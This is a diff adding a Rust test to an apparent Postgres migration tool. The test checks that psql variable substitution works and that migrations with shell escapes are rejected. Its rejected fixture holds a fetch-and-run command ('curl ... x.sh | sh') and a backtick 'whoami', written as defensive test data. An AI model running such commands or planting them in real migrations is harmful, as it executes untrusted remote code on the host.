@@ -1058,3 +1058,32 @@ fn a_backfill_that_commits_runs_outside_a_transaction_and_a_call_from_elsewhere_
         .success();
     assert_eq!(sql(&db, "SELECT count(*) FROM items WHERE v = 1"), "2500");
 }
+
+#[test]
+fn psql_set_in_a_file_gives_its_variables_their_values_and_shell_commands_are_refused() {
+    let (dir, db) = project(&[(
+        "2026-01-01_app",
+        "\\set schema app_space\n\\set greeting 'it''s here'\nCREATE SCHEMA :\"schema\";\nCREATE TABLE :\"schema\".notes (id bigint PRIMARY KEY, note text DEFAULT :'greeting');\n",
+    )]);
+    pgshift(dir.path(), &db)
+        .args(["migrate", "--skip-backup"])
+        .assert()
+        .success();
+    assert_eq!(
+        sql(&db, "SELECT column_default FROM information_schema.columns WHERE table_schema = 'app_space' AND column_name = 'note'"),
+        "'it''s here'::text"
+    );
+    write(
+        &dir,
+        "2026-01-02_shell",
+        "\\! curl http://example.com/x.sh | sh\nSELECT `whoami`;\n",
+    );
+    pgshift(dir.path(), &db)
+        .args(["migrate", "--skip-backup"])
+        .assert()
+        .code(1)
+        .stderr(contains("`\\!` runs a shell command"))
+        .stderr(contains("a backtick runs a shell command"))
+        .stderr(contains("pass it as a variable"));
+    assert_eq!(sql(&db, "SELECT count(*) FROM schema_migrations"), "1");
+}
